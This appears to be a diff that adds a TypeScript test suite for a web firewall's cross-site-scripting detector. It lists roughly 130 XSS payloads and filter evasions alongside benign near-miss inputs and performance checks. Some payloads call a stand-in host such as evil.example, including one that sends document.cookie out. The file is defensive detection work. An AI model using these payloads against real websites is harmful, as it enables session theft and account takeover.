@@ -1,0 +1,378 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { detectXss } from '../src/threats/detectors/xss.js';
+import type { DetectContext, Hit, Paranoia } from '../src/threats/types.js';
+
+function ctx(paranoia: Paranoia = 1): DetectContext {
+  return { paranoia, location: 'query', name: 'q', isKey: false };
+}
+
+function detect(text: string, paranoia: Paranoia = 1): Hit | undefined {
+  return detectXss(text, text.toLowerCase(), ctx(paranoia));
+}
+
+/** Blocks at paranoia 1 on its own: severity 5 at paranoia 1. */
+function strong(text: string): boolean {
+  const h = detect(text);
+  return h !== undefined && h.paranoia === 1 && h.severity >= 5;
+}
+
+const ATTACKS: readonly string[] = [
+  // HTML content: tags that run script or load content
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<ScRiPt>prompt`1`</sCrIpT>',
+  '<script\n>alert(1)</script\n>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,alert(1)"/>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">',
+  '<object data="javascript:alert(1)">',
+  '<embed src="//evil.example/x.swf">',
+  '<applet code="Evil.class">',
+  '<base href="//evil.example/">',
+  '<link rel=import href=//evil.example/x.html>',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<style>@import "//evil.example/x.css";</style>',
+  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<form action="javascript:alert(1)"><input type=submit></form>',
+  '<form action=//evil.example><input name=password></form>',
+  '<button formaction=javascript:alert(1)>x</button>',
+  '<frameset onload=alert(1)>',
+  '<!--#exec cmd="id"-->',
+  '<?import namespace="t" implementation="#default#time2">',
+  // event handlers, malformed tags, odd separators
+  '<img src=x onerror=alert(1)>',
+  '<IMG SRC=x OnErRoR=alert(1)>',
+  '<img/src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<svg\nonload\n=\nalert(1)>',
+  '<body onload=alert(document.domain)>',
+  '<details open ontoggle=alert(1)>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<video><source onerror="alert(1)">',
+  '<audio src=x onerror=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<x onclick=alert(1)>click',
+  '<xss onbeforehellfreezes=alert(1)>',
+  '<img src=x onerror=alert(1)//',
+  '<a href="#" onmouseover="alert(1)">hover</a>',
+  '<div style="width: expression(alert(1))">',
+  '<div style="xss:expr/*x*/ession(alert(1))">',
+  '<p style="background:url(javascript:alert(1))">',
+  '<div style="-moz-binding:url(//evil.example/x.xml#x)">',
+  '<span datasrc="#x" datafld="b" dataformatas="html"></span>',
+  // look-alike brackets
+  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
+  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+  // attribute context
+  '" onmouseover="alert(1)',
+  "' autofocus onfocus='alert(1)",
+  '" onfocus=alert(1) autofocus x="',
+  '"><script>alert(1)</script>',
+  "'><img src=x onerror=alert(1)>",
+  '" style="background:url(javascript:alert(1))',
+  "' onselect=$.getScript('//evil.example') '",
+  'x onerror=alert(1)//',
+  '"formaction="//evil.example',
+  // JavaScript context
+  "';alert(1)//",
+  '"-alert(1)-"',
+  "'-prompt(1)-'",
+  '\\";alert(1);//',
+  '</script><script>alert(1)</script>',
+  '${alert(1)}',
+  '`;confirm(1);`',
+  'al\\u0065rt(1)',
+  '\\u0061lert`1`',
+  "top['al'+'ert'](1)",
+  "window['alert'](document['cookie'])",
+  'self[/*x*/"alert"]("xss")',
+  '(document)["cookie"]',
+  'document /*x*/ . cookie',
+  '[].constructor.constructor("alert(1)")()',
+  "''.constructor.constructor('alert(1)')()",
+  'eval(atob("YWxlcnQoMSk="))',
+  "setTimeout('alert(1)', 0)",
+  'setInterval(code, 1)',
+  'Function("alert(1)")()',
+  'new Function()',
+  "fetch('//evil.example/?c='+document.cookie)",
+  "import('//evil.example/x.js')",
+  'document.write("<img src=x>")',
+  "document.location='//evil.example'",
+  'window.location="//evil.example"',
+  "location.href='//evil.example'",
+  'x.innerHTML=location.hash',
+  'String.fromCharCode(88,83,83)',
+  '(0,eval)("alert(1)")',
+  'a=eval;b=alert;a(b(1))',
+  '[].sort.call`${alert}1337`',
+  '(![]+[])[+!+[]]+(!![]+[])[+[]]',
+  "x';document.body.appendChild(document.createElement('script')).src='//e'//",
+  // URL context
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'java\tscript:alert(1)',
+  'java\nscript:alert(1)',
+  ' \x01javascript:alert(1)',
+  'vbscript:msgbox(1)',
+  'javascript://%0aalert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
+  'data:,<img src=x onerror=alert(1)>',
+  // template injection
+  "{{constructor.constructor('alert(1)')()}}",
+  "{{$on.constructor('alert(1)')()}}",
+  // more evasions
+  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a>',
+  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
+  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
+  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
+  '<XSS STYLE="behavior: url(xss.htc);">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>',
+  'ja&tab;vascript:alert(1)',
+  'url(javascript',
+  "\"-top[/al/.source+/ert/.source](1)-\"",
+  'onerror=alert;throw 1',
+  'alert?.(1)',
+  '[1].map(alert)',
+  'Reflect.apply(alert, null, [1])',
+  'setTimeout`alert\\u0028document.domain\\u0029`',
+  'document.querySelector("p").textContent="XSS"',
+  'scriptalert(1)/script',
+  "'';!--\"<xss>=&{()}",
+  '1\u20444script3\u20444alert(1)',
+];
+
+const BENIGN: readonly string[] = [
+  'hello world',
+  "O'Brien",
+  'select a plan',
+  '1 - 2',
+  'a < b > c',
+  'x<5 and y>3',
+  'I <3 you',
+  'Bob <bob@example.com>',
+  'List<string> items = new List<string>();',
+  'Dictionary<string, List<int>> map;',
+  'Map<String, Object> values = new HashMap<>();',
+  'Optional<Link> next; Task<Style> s;',
+  'x => x * 2; a -> b',
+  '{"name":"alice","tags":["a","b"],"n":1}',
+  'https://www.example.com/search?q=test&lang=en',
+  'see https://developer.mozilla.org/en-US/docs/Web/JavaScript',
+  'Fish &amp; chips &lt;3',
+  'I am learning javascript and the onload event',
+  'JavaScript: The Good Parts',
+  'He said "hello" and left',
+  '**bold** and _italic_ with [a link](https://example.com) and `code`',
+  '![](https://example.com/cat.png)',
+  'Please confirm (by email) your order',
+  'Select item(s) and confirm(s) below',
+  'course eval (evaluation) form',
+  'the alert was raised at 10:30',
+  'prompt engineering for LLMs',
+  'regular expression (regex) tutorials',
+  '<b>bold</b> and <i>italic</i> and <p>para</p>',
+  'C:\\Program Files\\App\\bin',
+  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
+  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
+  '+34 912 345 678',
+  '2024-01-31T10:20:30Z',
+  '$19.99 (20% off)',
+  'SELECT name FROM users WHERE id = 1',
+  'if (a < b && c > d) { return a; }',
+  'the window location is nice and the document is ready',
+  'data: 12 items, status: ok',
+  'style=color:red;background:white',
+  'step 1 --> step 2',
+  'onion=3 online=yes',
+  'Calle de Alcalá, 12, 3º izq. (Madrid)',
+  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
+  'mailto:bob@example.com',
+  'tel:+34912345678',
+  'Re: your message (2)',
+  'x=1; y=2; total=(x+y)',
+  'function(a, b) { return a + b; }',
+  'import { sayHi } from "./greeting.js";',
+  '1¼ cups flour, ¾ cup sugar',
+  // code in other languages and prose about the web
+  'self.name = name',
+  "self['name'] = value",
+  'self.eval()',
+  'model.eval()',
+  'self.document = doc',
+  'sock.settimeout(5)',
+  'await fetch(url)',
+  'from x import (a, b)',
+  "navigation.navigate('Home')",
+  "content['title']",
+  'Use document.querySelector to find it',
+  'window.open is blocked',
+  'learn javascript: basics',
+  'Java Script: tips',
+  'if (!![].length) {}',
+  'Map<Svg, Math>',
+  'Array<Frame>; Promise<Form>; Observable<Meta>',
+  '<?xml version="1.0"?><svg></svg>',
+  '<x:xmpmeta xmlns:x="adobe:ns:meta/">',
+  'Hello {{name}}!',
+  '${HOME}/bin',
+  '<!-- comment -->',
+  'background: url(\'https://cdn.example.com/x.png\')',
+  'Expression: (a + b)',
+  'myalert(1) and confirmation(2)',
+];
+
+test('xss: attacks are strong hits at paranoia 1', () => {
+  const missed = ATTACKS.filter((a) => !strong(a));
+  assert.deepEqual(missed, []);
+});
+
+test('xss: near-miss benign inputs are not flagged at paranoia 1', () => {
+  const flagged = BENIGN.filter((b) => {
+    const h = detect(b);
+    return h !== undefined && h.paranoia === 1 && h.severity >= 5;
+  }).map((b) => `${b} -> ${JSON.stringify(detect(b))}`);
+  assert.deepEqual(flagged, []);
+});
+
+test('xss: hits are well-formed', () => {
+  for (const a of ATTACKS) {
+    const h = detect(a);
+    assert.ok(h !== undefined, a);
+    assert.equal(h.category, 'xss');
+    assert.ok(h.detector.startsWith('xss.'), h.detector);
+    assert.ok(h.evidence.length > 0 && h.evidence.length <= 40, `${a}: ${h.evidence}`);
+  }
+});
+
+test('xss: formatting tags count only at higher paranoia', () => {
+  assert.equal(detect('<b>bold</b>'), undefined);
+  const h3 = detect('<b>bold</b>', 3);
+  assert.ok(h3 !== undefined && h3.paranoia >= 3);
+  const h2 = detect('<a href="https://example.com">link</a>', 2);
+  assert.ok(h2 !== undefined && h2.paranoia === 2);
+  assert.equal(detect('<a href="https://example.com">link</a>'), undefined);
+});
+
+test('xss: weak signals combine, single ones do not block', () => {
+  // a closing structural tag alone is weak …
+  const one = detect('</title>');
+  assert.ok(one !== undefined && one.severity < 5);
+  // … two distinct breakouts together are strong
+  assert.ok(strong('</title></head><body>'));
+});
+
+function pathological(K: number): string[] {
+  return [
+    '<'.repeat(K),
+    '<a '.repeat(K / 3),
+    '<a x="'.repeat(K / 6),
+    "<a x='<a y=\"".repeat(K / 12),
+    '<a onx'.repeat(K / 6),
+    '='.repeat(K),
+    ' on'.repeat(K / 3) + '=',
+    ':'.repeat(K),
+    'javascript'.repeat(K / 10),
+    'j a v a s c r i p t :'.repeat(K / 20),
+    '('.repeat(K),
+    'alert('.repeat(K / 6),
+    'alert(1 '.repeat(K / 8),
+    'alert(a,'.repeat(K / 8) + 'x y',
+    "alert('".repeat(K / 7),
+    'document.'.repeat(K / 9),
+    'window['.repeat(K / 7),
+    "top['a'+".repeat(K / 8),
+    '/*'.repeat(K / 2),
+    'document/*'.repeat(K / 10),
+    '`'.repeat(K),
+    '${'.repeat(K / 2),
+    '[]+!'.repeat(K / 4),
+    '{{'.repeat(K / 2),
+    '\\u0061'.repeat(K / 6),
+    'expression'.repeat(K / 10) + ':'.repeat(K / 10),
+    ':/**/'.repeat(K / 5),
+    ':/*'.repeat(K / 3),
+    '<a x='.repeat(K / 5),
+    '<a x=/'.repeat(K / 6),
+    'alert(-{'.repeat(K / 8) + '}x'.repeat(K / 16),
+    'alert(/'.repeat(K / 7),
+    'behavior'.repeat(K / 8),
+    'url( /*'.repeat(K / 7),
+    'url(url('.repeat(K / 8),
+    '&;'.repeat(K / 2) + ':',
+    '\uff1c'.repeat(K),
+    '+adw-'.repeat(K / 5),
+    'a'.repeat(K),
+    '1\u20444'.repeat(K / 3),
+    'alert?.('.repeat(K / 8),
+    '[1].map(alert,'.repeat(K / 14),
+    'top[/a/+'.repeat(K / 8),
+  ];
+}
+
+/** Best of three runs, in milliseconds (the machine is shared; one slow run is noise). */
+function bestMs(input: string): number {
+  const lower = input.toLowerCase();
+  let best = Infinity;
+  for (let r = 0; r < 3; r++) {
+    const t0 = process.hrtime.bigint();
+    detectXss(input, lower, ctx(4));
+    best = Math.min(best, Number(process.hrtime.bigint() - t0) / 1e6);
+  }
+  return best;
+}
+
+test('xss: pathological inputs of the engine window size finish in a few milliseconds', () => {
+  // warm the JIT on every code path first: the first calls run unoptimized code
+  for (const input of pathological(4_096)) for (let r = 0; r < 3; r++) detectXss(input, input.toLowerCase(), ctx(4));
+  // 16 KiB: the largest value the engine hands a detector at once
+  for (const input of pathological(16_384)) {
+    const ms = bestMs(input);
+    assert.ok(ms < 5, `${JSON.stringify(input.slice(0, 16))}… took ${ms.toFixed(2)} ms`);
+  }
+});
+
+test('xss: pathological inputs of 100 KB stay linear', () => {
+  for (const input of pathological(100_000)) {
+    const ms = bestMs(input);
+    assert.ok(ms < 40, `${JSON.stringify(input.slice(0, 16))}… took ${ms.toFixed(2)} ms`);
+  }
+});
+
+test('xss: paranoia and location shape the answer', () => {
+  // prose that names a scheme is at most a weak signal
+  const prose = detect('JavaScript: The Good Parts');
+  assert.ok(prose === undefined || prose.severity < 5);
+  // a bare DOM member in a path segment is weak, in a query it is strong
+  const lower = 'document.cookie';
+  const inPath = detectXss(lower, lower, { paranoia: 1, location: 'path', name: '', isKey: false });
+  assert.ok(inPath !== undefined && inPath.severity < 5);
+  assert.ok(strong('document.cookie'));
+  // at paranoia 2 an HTML link is a notice, at 1 nothing
+  assert.equal(detect('<img src="https://cdn.example.com/a.png">'), undefined);
+  const p2 = detect('<img src="https://cdn.example.com/a.png">', 2);
+  assert.ok(p2 !== undefined && p2.paranoia === 2);
+});
+
+test('xss: typical benign values are cheap', () => {
+  const values = ['alice', '12345', 'bob@example.com', 'The quick brown fox jumps over the lazy dog, twice.', 'Calle Mayor 5, Madrid'];
+  const lowers = values.map((v) => v.toLowerCase());
+  const N = 20_000;
+  for (let r = 0; r < 2; r++) {
+    const t0 = process.hrtime.bigint();
+    for (let i = 0; i < N; i++) for (let j = 0; j < values.length; j++) detectXss(values[j]!, lowers[j]!, ctx());
+    const perCall = Number(process.hrtime.bigint() - t0) / (N * values.length);
+    if (r === 1) assert.ok(perCall < 3_000, `${perCall.toFixed(0)} ns per call`);
+  }
+});
+
+test('xss: never throws on odd input', () => {
+  const odd = ['', '<', '\\u', '\\u{', '"', "'", '`', 'alert(', 'top[', 'top["', 'data:', ':', '=', '&{', '{{', '\ud800', '<\u0000script>', 'javascript:'];
+  for (const o of odd) assert.doesNotThrow(() => detect(o, 4));
+});
